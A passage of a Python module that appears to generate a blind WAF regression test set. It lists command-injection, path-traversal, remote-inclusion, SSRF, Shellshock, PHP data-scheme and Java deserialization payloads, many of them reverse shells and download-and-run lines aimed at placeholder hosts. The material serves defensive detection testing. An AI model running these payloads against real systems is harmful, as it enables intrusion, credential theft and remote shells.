"""Blind set "eightyfourth": a regression-suite author's set, title by title, for the command-injection, file-access,
remote-inclusion, Java, "generic" (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, data: scheme) and
server-side template injection detection titles, placed the way attack traffic reaches this product in
production (browser and API-client requests with their ordinary headers).

The angle: for each detection title (CRS 3.3 ids 930xxx, 931xxx, 932xxx, 934100, 944xxx, the matching titles that
later CRS releases added, and one title per template engine), the attack the title names (the canonical one), one
payload per alternative in the family (each keyword, function, tag, command, file or dialect the author knows), then
the variants a good rule must still catch (quoting, casing, whitespace and comment substitutes, concatenation,
encodings a server decodes). Eight to twelve payloads per title; one kebab-case sub-family per title.

Families and sub-families:
  lfi      path-traversal-encoded (930100), path-traversal-dotdot (930110), os-file-access (930120),
           restricted-file-access (930130), os-file-in-headers, path-traversal-triple-dot (later releases)
  rfi      rfi-ip-address (931100), rfi-vuln-param (931110), rfi-trailing-qmark (931120), rfi-off-domain (931130)
  rce      unix-cmd-injection (932100), unix-cmd-chained (932105), windows-cmd-injection (932110),
           windows-cmd-chained (932115), powershell (932120), unix-shell-expression (932130),
           windows-for-if (932140), direct-unix-exec (932150), unix-shell-code (932160),
           shellshock-header (932170), shellshock-args (932171), restricted-file-upload (932180),
           rce-bypass (932200); later releases: unix-cmd-no-evasion, unix-cmd-evasion, unix-alias,
           unix-history, unix-pipes-short-cmds, sqlite-system-cmd, mail-protocol-cmd, windows-cmd-evasion,
           unix-shell-code-headers, direct-unix-wildcards
  generic  nodejs-injection (934100); later releases: nodejs-injection-2, ssrf-cloud-metadata, ssrf-ip-url,
           prototype-pollution, ruby-injection, perl-injection, nodejs-dos, php-data-scheme
  java     java-suspicious-class (944100), java-process-spawn (944110), java-serialization (944120),
           java-class-keywords (944130), java-magic-bytes (944200), java-magic-base64 (944210),
           java-serialization-2 (944240), java-suspicious-method (944250); later releases: log4shell,
           java-class-loading, java-script-upload
  ssti     one sub-family per engine: ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf,
           ssti-erb, ssti-smarty, ssti-handlebars, ssti-mako, ssti-pug, ssti-nunjucks, ssti-tornado, ssti-razor,
           ssti-ejs, ssti-pebble, ssti-go-template

Placements (each payload in exactly one place; each title's payloads spread over all six, starting at a
different place per title; the sixth about one in eleven):
  query   GET /api/users?q=<payload>&page=<n>&per_page=<20|50|100>, the parameters in varying order, the payload
          encoded as a browser encodes a form field
  form    POST /admin/users/search, csrf_token=<random>&q=<payload>
  json    POST /api/users with one field (name, email, bio, title, department, ...) carrying the payload, or
          POST /slack/events with an event_callback envelope whose event.text carries the payload after a short
          lead-in, with X-Slack-Request-Timestamp and a made-up X-Slack-Signature (an attacker cannot sign)
  path    GET /api/users/<payload> or GET /api/<payload>, percent-encoded where a client must
  header  the whole User-Agent (mostly), or the Referer, or a cookie value (payloads with control or non-ASCII
          characters always go into a percent-encoded cookie value, which a header cannot carry raw)
  alt     PATCH /api/users/42 with JSON, or POST /me/settings as a form
Every request carries a current browser's headers (User-Agent, Accept, Accept-Language, Accept-Encoding, a
Referer on https://app.example.com/..., Sec-Fetch-*, and a Cookie with session=<random token> and a consent
cookie). The benign half uses the same six places with innocent values that carry the same words: Slack
messages and bios (chat_and_bio), searches, names, addresses, profile fields, settings, links, path segments,
client User-Agents, referers and cookies.

Authorship and independence: written from general knowledge of each attack family and from the detection titles
alone; no WAF rule, ruleset regression test, public payload list or other blind set was read. Measured once
through the real stack on unchanged code; the payloads were not changed after the measurement. Deterministic
(one seeded random source, no clock).
"""

from __future__ import annotations

import base64
import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio, slack_message
from .records import print_records

NAME = "eightyfourth"


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


MAGIC = b"\xac\xed\x00\x05"
HASHMAP = MAGIC + b"sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactor"
PHP_SYSTEM = b"<?php system($_GET['c']); ?>"

# --- lfi ------------------------------------------------------------------------------------------------------
PATH_TRAVERSAL_ENCODED = [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%e0%80%af..%e0%80%afetc/passwd",
    "%2E%2E%2F%2E%2E%2Fapp%2Fconfig%2Fdatabase.yml",
]
PATH_TRAVERSAL_DOTDOT = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/html/../../../etc/shadow",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "..//..//..//etc//passwd",
    "../../../../../../proc/self/environ",
    "..\\..//..\\..//etc/group",
    "images/../../../../config/secrets.yml",
    "..;/..;/WEB-INF/web.xml",
    "../../../etc/passwd\x00.png",
    "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
]
OS_FILE_ACCESS = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/root/.ssh/id_rsa",
    "/home/app/.bash_history",
    "C:\\Windows\\win.ini",
    "c:/windows/system32/config/sam",
    "/var/log/nginx/access.log",
    "/etc/./passwd",
    "/etc//shadow",
    "/usr/local/apache2/conf/httpd.conf",
]
RESTRICTED_FILE_ACCESS = [
    "/.env",
    ".git/config",
    "/.htaccess",
    ".htpasswd",
    "WEB-INF/web.xml",
    "/.svn/entries",
    "/.aws/credentials",
    "/.DS_Store",
    "/.ssh/authorized_keys",
    "/.git/HEAD",
    "/.npmrc",
    "/.GIT/config",
]
OS_FILE_IN_HEADERS = [
    "/etc/group",
    "/etc/hostname",
    "/proc/self/status",
    "/proc/1/environ",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/ssh/sshd_config",
    "/root/.bash_history",
    "C:\\inetpub\\wwwroot\\web.config",
    "/etc/sudoers",
    "/etc/crontab",
    "/etc/kubernetes/admin.conf",
    "file:///etc/passwd",
]
PATH_TRAVERSAL_TRIPLE_DOT = [
    ".../.../etc/passwd",
    "/.../.../.../etc/passwd",
    "...\\...\\windows\\win.ini",
    "..../..../etc/passwd",
    "....\\\\....\\\\boot.ini",
    ".../...//.../etc/shadow",
    "%2e%2e%2e/%2e%2e%2e/etc/passwd",
    "..../..../..../proc/self/environ",
    "static/.../.../.../etc/hosts",
    ".../.../.../.../config/database.yml",
    "...%2f...%2fetc%2fpasswd",
    ".\\.../.\\.../etc/passwd",
]

# --- rfi ------------------------------------------------------------------------------------------------------
RFI_IP_ADDRESS = [
    "http://203.0.113.15/shell.txt",
    "https://198.51.100.23/backdoor.php",
    "ftp://192.0.2.44/pub/x.txt",
    "http://203.0.113.15:8080/c99.txt",
    "HTTP://198.51.100.7/r57.txt",
    "http://3405803791/x.txt",
    "http://0xcb00710f/x.txt",
    "//203.0.113.15/inc.php",
    "\\\\198.51.100.9\\share\\x.php",
    "ftps://203.0.113.200/a.php",
    "http://[2001:db8::1]/x.txt",
    "hTTp://192.0.2.10/evil.inc",
]
RFI_VULN_PARAM = [
    "mosConfig_absolute_path=http://attacker.example/shell.txt?",
    "_CONF[path]=http://attacker.example/x.txt",
    "GALLERY_BASEDIR=http://attacker.example/inc/",
    "path[docroot]=https://attacker.example/x.txt",
    "appserv_root=http://attacker.example/x.txt",
    "config[root_dir]=ftp://attacker.example/pub/",
    "include(http://attacker.example/shell.txt)",
    "include_path=http://attacker.example/x/",
    "page=http://attacker.example/x.txt",
    "file=ftp://attacker.example/x.txt",
    "template=https://attacker.example/t.inc",
    "_SERVER[DOCUMENT_ROOT]=http://attacker.example/x.txt",
]
RFI_TRAILING_QMARK = [
    "http://attacker.example/shell.txt?",
    "https://evil.example.net/c99.php?",
    "ftp://files.attacker.example/inc.txt?",
    "http://attacker.example/x.txt??",
    "http://attacker.example/r.txt?&",
    "HTTPS://ATTACKER.EXAMPLE/S.TXT?",
    "http://attacker.example/a.txt%3F",
    "file://attacker.example/x?",
    "http://attacker.example/cmd.txt?cmd=id?",
    "http://attacker.example/x.txt?#",
    "http://attacker.example:8000/x.txt?",
    "https://pastebin.example/raw/abc?",
]
RFI_OFF_DOMAIN = [
    "https://attacker.example/payload.php",
    "http://evil.example.org/include.inc",
    "ftp://attacker.example/a.txt",
    "//attacker.example/x.php",
    "https://raw.attacker.example/kit/s.txt",
    "http://attacker.example/x.txt#",
    "http://attacker.example/x.txt%00",
    "https://attacker.example/x.txt\x00",
    "ftps://attacker.example/x",
    "http:\\\\attacker.example\\x.php",
    "HTTP://Attacker.Example/X.PHP",
    "https://attacker.example/shell.jpg",
]

# --- rce ------------------------------------------------------------------------------------------------------
UNIX_CMD_INJECTION = [
    ";id",
    "; cat /etc/passwd",
    "| id",
    "|| whoami",
    "&& uname -a",
    "`id`",
    "$(id)",
    "\nid",
    "; ls -la /",
    "& ping -c 4 203.0.113.5",
    "x;nc 203.0.113.5 4444 -e /bin/sh",
    "1; wget http://attacker.example/x.sh -O /tmp/x.sh",
]
UNIX_CMD_CHAINED = [
    ";  curl http://attacker.example/a|sh",
    "|  perl -e 'print 1'",
    "&& python -c 'import os'",
    "; base64 -d <<< aWQ=",
    "|head /etc/passwd",
    ";chmod +x /tmp/x",
    "&&rm -rf /tmp/x",
    "| tail -n 5 /var/log/auth.log",
    "; awk 'BEGIN{system(\"id\")}'",
    "; find / -perm -4000",
    "&& crontab -l",
    "; echo x > /tmp/pwn",
]
WINDOWS_CMD_INJECTION = [
    "& dir",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "; cmd /c whoami",
    "| ipconfig /all",
    "& systeminfo",
    "|| ping -n 5 203.0.113.5",
    "& net localgroup administrators",
    "& tasklist /v",
    "& certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
    "| nslookup attacker.example",
    "&& reg query HKLM\\SOFTWARE",
]
WINDOWS_CMD_CHAINED = [
    "\"&whoami&\"",
    "'|dir c:\\",
    "%COMSPEC% /c dir",
    "cmd.exe /k ver",
    "& start calc.exe",
    "& bitsadmin /transfer j http://attacker.example/x.exe C:\\x.exe",
    "& wmic process call create calc",
    "| findstr /s secret *.config",
    "& schtasks /create /tn x /tr calc /sc once /st 00:00",
    "& mshta http://attacker.example/x.hta",
    "& regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
    "& copy \\\\attacker.example\\s\\x.exe %TEMP%",
]
POWERSHELL = [
    "powershell -enc SQBFAFgA",
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
    "pwsh -c Get-Process",
    "Invoke-Expression (iwr http://attacker.example/p)",
    "Start-Process calc",
    "Get-ChildItem C:\\Users -Recurse",
    "Invoke-WebRequest -Uri http://attacker.example -OutFile x.exe",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "[System.Reflection.Assembly]::Load($b)",
    "powErShEll -ExecutionPolicy Bypass -File x.ps1",
    "& (gcm i*x) 'whoami'",
    "p^o^w^e^r^s^h^e^l^l -c whoami",
]
UNIX_SHELL_EXPRESSION = [
    "$(whoami)",
    "`hostname`",
    "${IFS}cat${IFS}/etc/passwd",
    "<(curl attacker.example)",
    ">(sh)",
    "${PATH:0:1}etc${PATH:0:1}passwd",
    "$((7*7))",
    "$(</etc/passwd)",
    "cat<<<$(id)",
    "${SHELL}",
    "$(printf '\\x69\\x64')",
    "\"$( sleep 5 )\"",
]
WINDOWS_FOR_IF = [
    "for /f %i in ('whoami') do echo %i",
    "for /r c:\\ %f in (*.config) do type %f",
    "FOR /L %i IN (1,1,10) DO ping 127.0.0.1",
    "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
    "IF DEFINED USERNAME echo %USERNAME%",
    "if not exist x (cmd /c calc)",
    "& for /f \"tokens=*\" %a in ('dir /b') do @echo %a",
    "| for %x in (a b) do whoami",
    "for /d %d in (C:\\*) do dir %d",
    "If %ERRORLEVEL% EQU 0 net user",
    "fOr /F %i iN ('ver') dO echo %i",
    "&if 1==1 (whoami)",
]
DIRECT_UNIX_EXEC = [
    "/bin/sh -c id",
    "/usr/bin/id",
    "/bin/cat /etc/passwd",
    "/usr/bin/wget http://attacker.example/x",
    "/usr/bin/curl -d @/etc/passwd attacker.example",
    "/usr/bin/python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "/sbin/ifconfig",
    "/usr/bin/nc -e /bin/sh 203.0.113.5 4444",
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
]
UNIX_SHELL_CODE = [
    "/bin/bash",
    "/bin/sh -i",
    "/usr/bin/env python",
    "/bin/zsh",
    "/bin/ksh -c id",
    "/usr/bin/perl",
    "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
    "/usr/bin/nohup",
    "/bin/dash",
    "/bin/csh",
    "/bin//sh",
    "/bin/./bash",
]
SHELLSHOCK_HEADER = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "(){ :; }; /usr/bin/wget http://attacker.example/x",
    "() {:;}; ping -c 1 203.0.113.5",
    "() { :; }; echo vulnerable",
    "() { foo;};echo;/bin/id",
    "() {  :;  };  /bin/sleep 5",
    "() { :;};/usr/bin/curl attacker.example",
    "() { (a)=>\\",
    "() { x() { _; }; x() { _; } <<a; }",
    "() { :; }; exec 5<>/dev/tcp/203.0.113.5/80",
]
SHELLSHOCK_ARGS = [
    "() { ignored; }; /bin/uname -a",
    "() { :; }; /bin/nc 203.0.113.5 80",
    "() { :;}; /usr/bin/id",
    "() { 0; }; /bin/ls",
    "()  {  :; } ; echo hi",
    "() { :; } ; sleep 10",
    "() { :;};echo Content-Type: text/plain; echo; id",
    "(){:;};whoami",
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
    "() { test; }; rm -f /tmp/x",
    "() { :; }; python -c 'print(1)'",
    "() { :; };\t/bin/id",
]
RESTRICTED_FILE_UPLOAD = [
    ".htaccess",
    "web.config",
    ".htpasswd",
    ".bash_profile",
    ".bashrc",
    ".user.ini",
    "php.ini",
    ".gitconfig",
    ".profile",
    "authorized_keys",
    "WEB.CONFIG",
    ".htaccess.",
]
RCE_BYPASS = [
    "c'a't /etc/passwd",
    "c\"a\"t /etc/passwd",
    "w\\ho\\ami",
    "/???/??t /???/p??s??",
    "cat$u /etc$u/passwd",
    "who$@ami",
    "/bin/c[a]t /etc/passwd",
    "ca${x}t /etc/passwd",
    "$'\\x69\\x64'",
    "i''d",
    "wh''oami",
    "/u?r/b?n/i?",
]
UNIX_CMD_NO_EVASION = [
    "; uname -a;",
    "| cat /etc/issue",
    "&& ls /home",
    "; ps aux",
    "| netstat -an",
    "; env",
    "&& ifconfig -a",
    "; who",
    "| last",
    "; df -h",
    "&& mount",
    "; groups",
]
UNIX_CMD_EVASION = [
    "c\\at /etc/passwd",
    "'c'at /etc/passwd",
    "cat</etc/passwd",
    "{cat,/etc/passwd}",
    "cat${IFS}/etc/passwd",
    "cat$IFS$9/etc/passwd",
    "X=$'cat\\x20/etc/passwd'&&$X",
    "echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "$(rev<<<'di')",
    "ca\\t${IFS}/e\\tc/pa\\sswd",
    "who$()ami",
    "tr 'a-z' 'n-za-m' <<< 'vq' | sh",
]
UNIX_ALIAS = [
    ";\\id",
    "|\\cat /etc/passwd",
    "&&\\whoami",
    "; alias l='cat /etc/passwd';l",
    "; command -p id",
    "; unalias -a; id",
    "\\curl attacker.example",
    "\\wget -qO- attacker.example|sh",
    "; builtin eval id",
    "; \\uname -a",
    "`\\id`",
    "$(\\whoami)",
]
UNIX_HISTORY = [
    "!!",
    "!-1",
    "!-2",
    "; !ls",
    "!?cat?",
    "^foo^bar",
    "; fc -s",
    "history | grep token",
    "; !!:p",
    "!$:h",
    "cat ~/.bash_history",
    "; fc -e - id",
]
UNIX_PIPES_SHORT_CMDS = [
    "|id",
    "|ls",
    "|ps",
    "|w",
    "|df",
    "|du -sh /",
    "|nc 203.0.113.5 1",
    "|sh",
    "|cut -d: -f1 /etc/passwd",
    "|tee /tmp/x",
    "|dd if=/etc/passwd",
    "|od /etc/shadow",
]
SQLITE_SYSTEM_CMD = [
    ".system id",
    ".shell cat /etc/passwd",
    ".sh whoami",
    ".import /etc/passwd t",
    ".output /tmp/x.php",
    ".read /tmp/x.sql",
    ".load /tmp/evil.so",
    "';.system id;--",
    "; .shell ls",
    "select load_extension('/tmp/x.so')",
    "ATTACH DATABASE '/var/www/x.php' AS x",
    ".once |id",
]
MAIL_PROTOCOL_CMD = [
    "x\r\nRCPT TO:<x@attacker.example>",
    "MAIL FROM:<a@attacker.example>\r\n",
    "a\r\nDATA\r\n",
    "HELO attacker.example",
    "EHLO x",
    "a1 LOGIN admin admin",
    "a001 SELECT INBOX",
    "a2 FETCH 1:* (BODY[])",
    "USER admin\r\nPASS x",
    "RETR 1",
    "x\r\nQUIT",
    "VRFY root",
]
WINDOWS_CMD_EVASION = [
    "c^m^d /c w^h^o^a^m^i",
    "cmd /c \"who\"ami",
    "wh\"\"oami",
    "cmd.exe /c set x=who&& set y=ami&& call %x%%y%",
    "cmd /V:ON /c \"set a=whoami&& !a!\"",
    "p^ower^shell -nop -c whoami",
    "powershell -e dwBoAG8AYQBtAGkA",
    "powershell (\"who\"+\"ami\")|iex",
    "c:\\windows\\system32\\cmd.exe /c ver",
    "CmD /C DiR",
    "%SystemRoot%\\System32\\cmd.exe /c dir",
    "cmd,/c,whoami",
]
UNIX_SHELL_CODE_HEADERS = [
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "/bin/sh -c 'curl attacker.example|sh'",
    "sh -c id",
    "$(curl -s attacker.example/x|bash)",
    "/dev/tcp/203.0.113.5/80",
    "exec 3<>/dev/tcp/203.0.113.5/4444",
    "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\",4444))'",
    "php -r '$s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "socat exec:'bash -li',pty tcp:203.0.113.5:4444",
    "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"203.0.113.5\",4444)'",
    "telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445",
]
DIRECT_UNIX_WILDCARDS = [
    "/bin/c?t /etc/p?sswd",
    "/???/??t /???/??ss??",
    "/usr/b*n/wh*ami",
    "/b[i]n/s[h]",
    "/bin/ca* /et*/pass*",
    "/usr/bin/i[d]",
    "/?in/?h -c id",
    "/us?/b??/w?oam?",
    "/bin/c[a-z]t /etc/shadow",
    "/???/n? -e /???/b??h 203.0.113.5 4444",
    "cat /e??/p*d",
    "/usr/bin/???l http://attacker.example",
]

# --- generic --------------------------------------------------------------------------------------------------
NODEJS_INJECTION = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"whoami\")",
    "process.mainModule.require('child_process').spawn('sh')",
    "global.process.mainModule.constructor._load('child_process')",
    "require('fs').readFileSync('/etc/passwd')",
    "child_process.execFile('/bin/sh')",
    "require('child_process').fork('x.js')",
    "eval(\"require('child_process').exec('id')\")",
    "process.binding('spawn_sync')",
    "require ( 'child_process' ) .exec('id')",
    "require('child'+'_process').exec('id')",
    "require('CHILD_PROCESS'.toLowerCase())",
]
NODEJS_INJECTION_2 = [
    "this.constructor.constructor('return process')()",
    "Function('return process')()",
    "new Function('return this.process')()",
    "[].constructor.constructor('return process.env')()",
    "''.constructor.constructor('return global')()",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "setTimeout('process.exit()',0)",
    "vm.runInNewContext('this.constructor.constructor(\"return process\")()')",
    "Reflect.construct(Function,['return process'])()",
    "process.kill(process.pid)",
    "res.end(require('fs').readdirSync('.').toString())",
    "import('child_process').then(m=>m.execSync('id'))",
]
SSRF_CLOUD_METADATA = [
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.169.254/opc/v1/instance/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://0xa9fea9fe/latest/meta-data/",
]
SSRF_IP_URL = [
    "http://127.0.0.1/admin",
    "http://localhost:8080/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://127.1/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "http://0.0.0.0:6379/",
    "http://10.0.0.1/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://192.168.0.10:11211/stats",
]
PROTOTYPE_POLLUTION = [
    "__proto__[isAdmin]=true",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "constructor[prototype][admin]=1",
    "constructor.prototype.isAdmin=true",
    "a[__proto__][role]=admin",
    "__proto__.polluted=1",
    "{\"constructor\":{\"prototype\":{\"admin\":true}}}",
    "Object.prototype.isAdmin=true",
    "x.__proto__.shell='/bin/sh'",
    "obj['__proto__']['toString']=1",
    "__proto__[outputFunctionName]=_x;process.mainModule.require('child_process').exec('id');s",
    "{\"user\":{\"__proto__\":{\"admin\":1}}}",
]
RUBY_INJECTION = [
    "Kernel.exec('id')",
    "system('cat /etc/passwd')",
    "%x(whoami)",
    "IO.popen('id').read",
    "Open3.capture2('id')",
    "eval(\"`id`\")",
    "instance_eval('exit')",
    "send(:system, 'id')",
    "Object.const_get(:Kernel).system('id')",
    "File.read('/etc/passwd')",
    "open('|id').read",
    "ERB.new('<%= `id` %>').result",
]
PERL_INJECTION = [
    "exec('/bin/sh')",
    "qx{id}",
    "qx/whoami/",
    "open(F,'|id')",
    "open(my $f, '-|', 'id')",
    "eval \"system('id')\"",
    "do '/tmp/x.pl'",
    "require '/tmp/x.pm'",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'))",
    "print `cat /etc/passwd`",
    "@{[system 'id']}",
    "unlink glob('/tmp/*')",
]
NODEJS_DOS = [
    "while(true){}",
    "for(;;){}",
    "while(1);",
    "(function f(){f()})()",
    "new Array(1e9).fill(0)",
    "'a'.repeat(2**30)",
    "process.exit()",
    "Array(1e9).join('x')",
    "do{}while(true)",
    "JSON.parse('['.repeat(1e6))",
    "/(a+)+$/.test('a'.repeat(40)+'!')",
    "process.abort()",
]
PHP_DATA_SCHEME = [
    "data://text/plain;base64," + _b64(PHP_SYSTEM),
    "data://text/plain,<?php phpinfo();?>",
    "data:text/plain,<?php system('id');?>",
    "data:;base64," + _b64(b"<?php phpinfo();?>"),
    "DATA://text/plain;base64," + _b64(b"<?php eval($_POST[1]);?>"),
    "data://application/x-httpd-php;base64," + _b64(b"<?php echo 1;?>"),
    "data://text/html,<?=`id`?>",
    "data:text/plain;charset=utf-8;base64," + _b64(b"<?php passthru('id');?>"),
    "data://text/plain;base64," + _b64(b"<?php echo shell_exec('uname -a'); ?>"),
    "data://,<?php echo 1;?>",
    "data: text/plain ,<?php system('ls');?>",
    "Data://Text/Plain;Base64," + _b64(b"<?php highlight_file(__FILE__);?>"),
]

# --- java -----------------------------------------------------------------------------------------------------
JAVA_SUSPICIOUS_CLASS = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
    "java.lang.runtime",
    "JAVA.LANG.PROCESSBUILDER",
    "java/lang/Runtime",
    "Ljava/lang/ProcessBuilder;",
    "java.lang.ProcessImpl.start",
    "java.lang.UNIXProcess",
    "@java.lang.Runtime@getRuntime()",
    "java . lang . Runtime",
    "java.lang.Runtime/**/.getRuntime()",
    "java.lang.\\u0052untime",
]
JAVA_PROCESS_SPAWN = [
    "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
    "<map><entry><jdk.nashorn.internal.objects.NativeString><value class=\"com.sun.xml.internal.bind.v2.runtime."
    "unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$"
    "XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
    "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$"
    "EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command><string>calc</string></command>",
    "<command><string>/bin/sh</string><string>-c</string><string>id</string></command>",
    "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
    "<string>id</string></void></array><void method=\"start\"/></object>",
    "java.lang.ProcessBuilder(['id']).start()",
    "<next class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/x</string></command>"
    "<redirectErrorStream>false</redirectErrorStream></next>",
    "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"2\">",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id\"})",
    "new ProcessBuilder(\"cmd.exe\",\"/c\",\"calc\").start()",
    "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
    "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target>"
    "<action>start</action></handler></dynamic-proxy></sorted-set>",
    "new processbuilder(\"id\").start()",
    "<java.lang.ProcessBuilder>\n<command>\n<string>uname</string>\n</command>\n</java.lang.ProcessBuilder>",
]
JAVA_SERIALIZATION = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.InstantiateTransformer",
    "org.apache.commons.collections.functors.ChainedTransformer",
    "org.apache.commons.collections.functors.ConstantTransformer",
    "org.apache.commons.collections.map.LazyMap",
    "org.apache.commons.collections.keyvalue.TiedMapEntry",
    "sun.reflect.annotation.AnnotationInvocationHandler",
    "org.apache.commons.beanutils.BeanComparator",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "org.springframework.beans.factory.ObjectFactory",
    "org.codehaus.groovy.runtime.ConvertedClosure",
    "com.sun.rowset.JdbcRowSetImpl",
]
JAVA_CLASS_KEYWORDS = [
    "java.lang.reflect.Method",
    "javax.script.ScriptEngineManager",
    "java.lang.ClassLoader",
    "java.net.URLClassLoader",
    "javax.naming.InitialContext",
    "java.beans.XMLDecoder",
    "java.rmi.registry.Registry",
    "javax.management.MBeanServer",
    "com.sun.jndi.ldap.LdapCtx",
    "java.lang.invoke.MethodHandles",
    "org.mozilla.javascript.Context",
    "groovy.lang.GroovyShell",
]
JAVA_MAGIC_BYTES = [
    HASHMAP.decode("latin-1"),
    (MAGIC + b"t\x00\x04test").decode("latin-1"),
    (MAGIC + b"w\x04\x00\x00\x00\x01").decode("latin-1"),
    (MAGIC + b"ur\x00\x13[Ljava.lang.Object;").decode("latin-1"),
    "aced0005737200",
    "ACED00057372",
    "\\xac\\xed\\x00\\x05",
    "%AC%ED%00%05",
    (MAGIC + b"sr\x002sun.reflect.annotation.AnnotationInvocationHandler").decode("latin-1"),
    (MAGIC + b"sr\x00\x17java.util.PriorityQueue").decode("latin-1"),
    (MAGIC + b"s}\x00\x00\x00\x01").decode("latin-1"),
    (MAGIC + b"sr\x00\x0cjava.net.URL").decode("latin-1"),
]
JAVA_MAGIC_BASE64 = [
    _b64(HASHMAP),
    _b64(MAGIC + b"t\x00\x04test"),
    _b64(MAGIC + b"w\x04\x00\x00\x00\x01"),
    _b64(MAGIC + b"ur\x00\x13[Ljava.lang.Object;"),
    _b64(b"\x00" + HASHMAP),
    _b64(b"\x00\x00" + HASHMAP),
    base64.urlsafe_b64encode(MAGIC + b"sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1").decode(),
    _b64(MAGIC + b"sr\x002sun.reflect.annotation.AnnotationInvocationHandler").rstrip("="),
    "H4sIAAAAAAAA/" + _b64(HASHMAP)[:24],
    "data=" + _b64(MAGIC + b"sr\x00\x0cjava.net.URL"),
    _b64(_b64(HASHMAP).encode()),
    "rO0ABX",
]
JAVA_SERIALIZATION_2 = [
    "org/apache/commons/collections/functors/InvokerTransformer",
    "Lorg/apache/commons/collections/functors/ChainedTransformer;",
    "org.apache.commons.collections4.comparators.TransformingComparator",
    "javax.management.BadAttributeValueExpException",
    "sun.rmi.server.UnicastRef",
    "org.hibernate.engine.spi.TypedValue",
    "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
    "org.apache.xbean.naming.context.ContextUtil$ReadOnlyBinding",
    "com.sun.syndication.feed.impl.ObjectBean",
    "org.jboss.interceptor.proxy.InterceptorMethodHandler",
    "java.util.HashSet + org.apache.commons.collections.keyvalue.TiedMapEntry",
